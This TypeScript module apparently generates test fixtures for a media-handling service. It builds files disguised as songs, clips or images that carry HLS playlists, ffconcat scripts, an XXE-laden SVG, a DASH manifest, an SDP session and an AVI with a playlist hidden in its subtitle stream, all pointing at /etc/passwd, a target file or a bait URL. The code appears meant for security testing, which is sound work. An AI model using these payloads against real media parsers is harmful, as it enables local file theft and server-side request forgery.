import type { Bait, NastyFile } from './nasty-file.ts';
import { id3, mp3Frames } from './sounds.ts';

/** Texts in the clothes of media. Formats that name other files are the way in: readers that guess would open them. */
export function textFiles({ file, url }: Bait): NastyFile[] {
  const playlist = [
    '#EXTM3U',
    '#EXT-X-TARGETDURATION:10',
    ...[
      'file:///etc/passwd',
      `file://${file}`,
      file,
      `${url}/part.ts`,
      `concat:${file}|${url}/part.ts`,
    ].flatMap((entry) => ['#EXTINF:10.0,', entry]),
    '#EXT-X-ENDLIST',
    '',
  ].join('\n');
  const concat = `ffconcat version 1.0\nfile '${file}'\nfile '/etc/passwd'\nfile '${url}/clip.mp4'\n`;
  const drawing = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY passwd SYSTEM "file:///etc/passwd"><!ENTITY bait SYSTEM "${url}/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">
  <image xlink:href="${url}/picture.png" width="64" height="64"/><image href="file://${file}"/>
  <text>&passwd;&bait;</text>
</svg>`;
  const manifest = `<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S">
  <Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${url}/</BaseURL>
  <SegmentList><SegmentURL media="file://${file}"/></SegmentList></Representation></AdaptationSet></Period>
</MPD>`;
  const session = `v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nm=video 5004 RTP/AVP 96\r\na=control:${url}\r\n`;
  const page = '<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>';

  const text = (name: string, role: NastyFile['role'], content: string): NastyFile => ({
    name,
    role,
    bytes: Buffer.from(content),
  });
  return [
    text('playlist.mp3', 'song', playlist),
    text('playlist.mp4', 'clip', playlist),
    // What sniffs as MP3 is still a playlist to a reader that guesses.
    { name: 'playlist-behind-id3.mp3', role: 'song', bytes: Buffer.concat([id3([]), Buffer.from(playlist)]) },
    {
      name: 'playlist-behind-sound.mp3',
      role: 'song',
      bytes: Buffer.concat([mp3Frames(40), Buffer.from(`\n${playlist}`)]),
    },
    text('concat-script.png', 'image', concat),
    text('concat-script.mp4', 'clip', concat),
    text('drawing.png', 'image', drawing),
    text('manifest.mp4', 'clip', manifest),
    text('session.mp4', 'clip', session),
    text('error-page.mp4', 'clip', page),
    { name: 'empty.mp3', role: 'song', bytes: Buffer.alloc(0) },
    { name: 'empty.mp4', role: 'clip', bytes: Buffer.alloc(0) },
    { name: 'subtitles-are-a-playlist.avi', role: 'clip', bytes: aviWithPlaylist(playlist) },
  ];
}

/**
 * An AVI whose one stream is a subtitle file (`GAB2`), and that file a playlist: readers that guess the subtitles'
 * format were made to upload local files this way.
 */
function aviWithPlaylist(playlist: string): Buffer {
  const name = Buffer.from('a\0\0\0', 'latin1');
  const content = Buffer.from(playlist);
  const gab2 = Buffer.concat([
    ...[Buffer.from('GAB2\0', 'latin1'), uint16(2), uint32(name.length), name],
    ...[uint16(4), uint32(content.length), content],
  ]);
  const mainHeader = Buffer.alloc(56);
  for (const [at, value] of [
    [0, 40_000],
    [16, 1],
    [24, 1],
    [32, 64],
    [36, 48],
  ] as const) {
    mainHeader.writeUInt32LE(value, at);
  }
  const streamHeader = Buffer.alloc(56);
  streamHeader.write('txts', 0, 'latin1');
  for (const [at, value] of [
    [20, 1],
    [24, 25],
    [32, 1],
  ] as const) {
    streamHeader.writeUInt32LE(value, at);
  }
  const stream = list('strl', [chunk('strh', streamHeader), chunk('strf', Buffer.alloc(0))]);
  const headers = list('hdrl', [chunk('avih', mainHeader), stream]);
  const body = Buffer.concat([Buffer.from('AVI ', 'latin1'), headers, list('movi', [chunk('00tx', gab2)])]);
  return chunk('RIFF', body);
}

function list(type: string, parts: readonly Buffer[]): Buffer {
  return chunk('LIST', Buffer.concat([Buffer.from(type, 'latin1'), ...parts]));
}

function chunk(type: string, data: Buffer): Buffer {
  const padding = Buffer.alloc(data.length % 2);
  return Buffer.concat([Buffer.from(type, 'latin1'), uint32(data.length), data, padding]);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
}

function uint16(value: number): Buffer {
  const bytes = Buffer.alloc(2);
  bytes.writeUInt16LE(value);
  return bytes;
}
